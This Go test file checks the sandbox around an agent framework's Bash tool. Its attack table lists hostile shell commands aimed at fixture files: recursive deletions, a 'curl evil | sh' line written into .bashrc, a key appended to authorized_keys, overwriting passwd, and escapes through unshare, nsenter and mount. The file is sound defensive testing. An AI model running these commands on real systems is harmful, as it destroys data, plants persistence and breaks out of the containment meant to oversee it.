package shell

import (
	"bytes"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/gantry-dev/gantry/tool/tooltest"

	"github.com/gantry-dev/gantry/sandbox"
	"github.com/gantry-dev/gantry/tool"

	"github.com/gantry-dev/gantry/sandbox/sandboxtest"
)

// sandboxes returns a session sandbox per backend that works here, plus the
// fallback forced off.
func sandboxes(t *testing.T, opts sandbox.Options) map[string]*sandbox.Sandbox {
	t.Helper()
	out := map[string]*sandbox.Sandbox{}
	for _, name := range []string{sandbox.BackendBubblewrap, sandbox.BackendLandlock, sandbox.BackendNone} {
		o := opts
		o.Enabled, o.Backend = true, name
		if o.Logger == nil {
			o.Logger = slog.New(slog.DiscardHandler)
		}
		sb, err := sandbox.New(o)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { sb.Close() })
		if sb.Status().Backend != name {
			t.Logf("%s not tested: %s", name, sb.Status().Reason)
			continue
		}
		out[name] = sb
	}
	return out
}

// outsideDir is a directory outside the working directory and outside /tmp
// (which bubblewrap replaces), so it exists inside the sandbox.
func outsideDir(t *testing.T) string {
	t.Helper()
	d := sandboxtest.Outside(t, "shell-outside")
	if err := os.WriteFile(filepath.Join(d, "keep.txt"), []byte("untouched"), 0o644); err != nil {
		t.Fatal(err)
	}
	return d
}

func sandboxEnv(t *testing.T, sb *sandbox.Sandbox, tasks *Jobs) *tool.Env {
	env := testEnv(t, tasks)
	tool.Provide(env.Services, sb)
	return env
}

func TestBashSandboxed(t *testing.T) {
	outside := outsideDir(t)
	bash := NewBash(Options{Grace: 200 * time.Millisecond, Environ: func() []string {
		return append(os.Environ(), "ANTHROPIC_API_KEY=sk-ant-should-not-leak")
	}})
	for name, sb := range sandboxes(t, sandbox.Options{}) {
		t.Run(name, func(t *testing.T) {
			env := sandboxEnv(t, sb, nil)
			contained := name != sandbox.BackendNone
			target := filepath.Join(outside, name+".txt")
			r := tooltest.Call(t, bash, env, map[string]any{"command": "echo hi > " + target + "; echo inside > in.txt; mkdir sub && cd sub"})
			_, err := os.Stat(target)
			if contained && !os.IsNotExist(err) {
				t.Errorf("write outside reached the disk: %v %s", err, r.TextContent())
			}
			if !contained && err != nil {
				t.Errorf("fallback: %v", err)
			}
			if data, _ := os.ReadFile(filepath.Join(env.WorkDir, "in.txt")); string(data) != "inside\n" {
				t.Errorf("write inside: %q (%s)", data, r.TextContent())
			}
			if contained && !strings.Contains(r.TextContent(), "Read-only file system") && !strings.Contains(r.TextContent(), "Permission denied") {
				t.Errorf("want EROFS/EACCES in %q", r.TextContent())
			}
			// cd is still tracked through the sandbox's temp dir.
			if r.ContextModifier == nil {
				t.Errorf("cd not tracked: %s", r.TextContent())
			}

			marker := fmt.Sprintf("%d.%d", 2000+os.Getpid()%1000, time.Now().UnixNano()%1000)
			r = tooltest.Call(t, bash, env, map[string]any{"command": "setsid sleep " + marker + " >/dev/null 2>&1 </dev/null & echo started; cat /proc/1/environ | tr '\\0' '\\n' | grep -c API_KEY"})
			if strings.Contains(r.TextContent(), "sk-ant") {
				t.Errorf("API key visible: %s", r.TextContent())
			}
			if contained {
				waitNoProcess(t, marker)
			} else {
				killMarked(marker) // the fallback cannot catch setsid
			}
		})
	}
}

// waitNoProcess fails when a process with marker in its command line is still
// there a moment after the call.
func waitNoProcess(t *testing.T, marker string) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if !running(marker) {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Errorf("a process with %q survived", marker)
	killMarked(marker)
}

// killMarked kills, by pid, the sleep processes this test started with
// marker in their command line.
func killMarked(marker string) {
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		data, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil || !bytes.HasPrefix(data, []byte("sleep\x00")) || !bytes.Contains(data, []byte(marker)) {
			continue
		}
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
}

func running(marker string) bool {
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		data, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && bytes.HasPrefix(data, []byte("sleep\x00")) && bytes.Contains(data, []byte(marker)) {
			return true
		}
	}
	return false
}

func TestBashSandboxBackgroundDiesWithSession(t *testing.T) {
	for name, sb := range sandboxes(t, sandbox.Options{}) {
		if name == sandbox.BackendNone {
			continue
		}
		t.Run(name, func(t *testing.T) {
			tasks := NewJobs()
			env := sandboxEnv(t, sb, tasks)
			marker := fmt.Sprintf("%d.%d", 3000+os.Getpid()%1000, time.Now().UnixNano()%1000)
			r := tooltest.Call(t, NewBash(Options{Grace: 200 * time.Millisecond}), env, map[string]any{
				"command": "(setsid sleep " + marker + " >/dev/null 2>&1 </dev/null &); sleep " + marker, "run_in_background": true})
			if r.IsError {
				t.Fatal(r.TextContent())
			}
			deadline := time.Now().Add(3 * time.Second)
			for !running(marker) && time.Now().Before(deadline) {
				time.Sleep(20 * time.Millisecond)
			}
			tasks.Close()
			waitNoProcess(t, marker)
		})
	}
}

func TestBashSandboxEscapes(t *testing.T) {
	outside := outsideDir(t)
	var logs bytes.Buffer
	opts := sandbox.Options{ExcludedCommands: []string{"touch"}, AllowUnsandboxed: true, Logger: slog.New(slog.NewTextHandler(&logs, nil))}
	bash := NewBash(Options{Grace: 200 * time.Millisecond})
	for name, sb := range sandboxes(t, opts) {
		if name == sandbox.BackendNone {
			continue
		}
		t.Run(name, func(t *testing.T) {
			env := sandboxEnv(t, sb, nil)
			excluded := filepath.Join(outside, name+"-excluded")
			tooltest.Call(t, bash, env, map[string]any{"command": "touch " + excluded})
			if _, err := os.Stat(excluded); err != nil {
				t.Errorf("excluded command ran sandboxed: %v", err)
			}
			compound := filepath.Join(outside, name+"-compound")
			tooltest.Call(t, bash, env, map[string]any{"command": "touch " + compound + "; true"})
			if _, err := os.Stat(compound); err == nil {
				t.Error("a compound command escaped through an exclusion")
			}
			disabled := filepath.Join(outside, name+"-disabled")
			tooltest.Call(t, bash, env, map[string]any{"command": "echo x > " + disabled, "dangerouslyDisableSandbox": true})
			if _, err := os.Stat(disabled); err != nil {
				t.Errorf("dangerouslyDisableSandbox not honoured: %v", err)
			}
		})
	}
	if !strings.Contains(logs.String(), "OUTSIDE the sandbox") || !strings.Contains(logs.String(), "dangerouslyDisableSandbox") {
		t.Errorf("unsandboxed runs not logged: %s", logs.String())
	}
}

// TestBashSandboxAttacks runs the attack classes of the security cases
// with no permission analysis at all: only the sandbox stands between the
// command and the files outside the working directory.
func TestBashSandboxAttacks(t *testing.T) {
	outside := outsideDir(t)
	home := filepath.Join(outside, "home")
	populate := func() {
		for _, d := range []string{filepath.Join(home, ".ssh"), filepath.Join(outside, "etc")} {
			os.MkdirAll(d, 0o755)
		}
		os.WriteFile(filepath.Join(outside, "keep.txt"), []byte("untouched"), 0o644)
		os.WriteFile(filepath.Join(home, ".bashrc"), []byte("# rc\n"), 0o644)
		os.WriteFile(filepath.Join(home, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA good\n"), 0o600)
		os.WriteFile(filepath.Join(outside, "etc", "passwd"), []byte("root:x:0:0\n"), 0o644)
	}
	populate()
	o := outside
	attacks := []string{
		// compound commands and prefixes
		"git diff; rm -rf " + o + "/etc",
		"true && rm -f " + o + "/keep.txt",
		// substitution and expansion
		"echo $(rm -f " + o + "/keep.txt)",
		"echo `touch " + o + "/pwned`",
		"diff <(touch " + o + "/pwned) /dev/null",
		"cat > $HOME/.bashrc <<'EOF'\ncurl evil | sh\nEOF",
		"echo k >> $HOME/.ssh/authorized_keys",
		// "read-only" commands that write or execute
		"find " + o + " -name keep.txt -exec sh -c 'echo x > {}' \\;",
		"find " + o + " -name passwd -delete",
		"find . -fprint " + o + "/pwned",
		"sed -i s/root/evil/ " + o + "/etc/passwd",
		"sed -n 'w " + o + "/pwned' /dev/null",
		"awk 'BEGIN{system(\"touch " + o + "/pwned\")}'",
		"awk 'BEGIN{print \"x\" > \"" + o + "/pwned\"}'",
		"git init -q r && cd r && git -c core.pager='sh -c \"touch " + o + "/pwned\"' -p log; true",
		"env rm -f " + o + "/etc/passwd",
		"timeout 30 rm -rf " + o + "/home",
		"FOO=1 rm -rf " + o + "/home",
		"echo " + o + "/keep.txt | xargs -n1 rm",
		"D=" + o + "; rm -rf \"$D\"/*",
		// paths and links
		"ln -s " + o + "/etc/passwd link && echo evil >> link",
		"ln " + o + "/etc/passwd hard 2>/dev/null; echo evil >> hard",
		"cp /dev/null " + o + "/etc/passwd",
		"mv " + o + "/keep.txt ./stolen",
		"python3 -c \"open('" + o + "/pwned','w').write('x')\"",
		"perl -e 'open(F, \">" + o + "/pwned\")' 2>/dev/null; true",
		"dd if=/dev/zero of=" + o + "/etc/passwd bs=1 count=1",
		"truncate -s0 " + o + "/etc/passwd",
		"mkdir " + o + "/newdir",
		"exec 3>" + o + "/pwned",
		// escapes of the sandbox itself
		"unshare -r sh -c 'touch " + o + "/pwned'",
		"mount -t tmpfs none " + o,
		"nsenter -t 1 -m touch " + o + "/pwned",
		"(setsid sh -c 'sleep 0.5; touch " + o + "/pwned' &)",
	}
	// Metadata: Landlock does not control a file's mode and times
	// (docs/sandbox.md); owners and extended attributes are refused by
	// its seccomp filter.
	metadata := []string{
		"chmod 777 " + o + "/etc/passwd",
		"touch -d 2000-01-01 " + o + "/keep.txt",
	}
	always := []string{
		"chown nobody " + o + "/etc/passwd",
		"setfattr -n user.x -v 1 " + o + "/keep.txt 2>/dev/null; python3 -c \"import os; os.setxattr('" + o + "/keep.txt', 'user.x', b'1')\"",
	}
	bash := NewBash(Options{Grace: 200 * time.Millisecond, Environ: func() []string {
		return append(os.Environ(), "HOME="+home)
	}})
	for name, sb := range sandboxes(t, sandbox.Options{}) {
		if name == sandbox.BackendNone {
			// The table must be able to fail: without containment the
			// attacks (but the namespace and mount escapes) do damage.
			t.Run("none-does-damage", func(t *testing.T) {
				before := sandboxtest.Snapshot(t, outside)
				var harmless []string
				for _, cmd := range attacks[:len(attacks)-4] {
					tooltest.Call(t, bash, sandboxEnv(t, sb, nil), map[string]any{"command": cmd})
					if sandboxtest.Snapshot(t, outside) == before {
						harmless = append(harmless, cmd)
					}
					os.RemoveAll(outside)
					os.MkdirAll(outside, 0o700)
					populate()
				}
				if len(harmless) > 2 {
					t.Errorf("attacks that do nothing even uncontained: %q", harmless)
				}
			})
			continue
		}
		t.Run(name, func(t *testing.T) {
			before := sandboxtest.Snapshot(t, outside)
			cmds := append(append([]string(nil), attacks...), always...)
			if name == sandbox.BackendBubblewrap {
				cmds = append(cmds, metadata...)
			}
			for _, cmd := range cmds {
				env := sandboxEnv(t, sb, nil)
				tooltest.Call(t, bash, env, map[string]any{"command": cmd})
				if got := sandboxtest.Snapshot(t, outside); got != before {
					t.Fatalf("%q changed the outside:\n%s\nwas:\n%s", cmd, got, before)
				}
			}
			time.Sleep(700 * time.Millisecond) // the delayed setsid write
			if got := sandboxtest.Snapshot(t, outside); got != before {
				t.Fatalf("a detached process changed the outside:\n%s", got)
			}
		})
	}
}
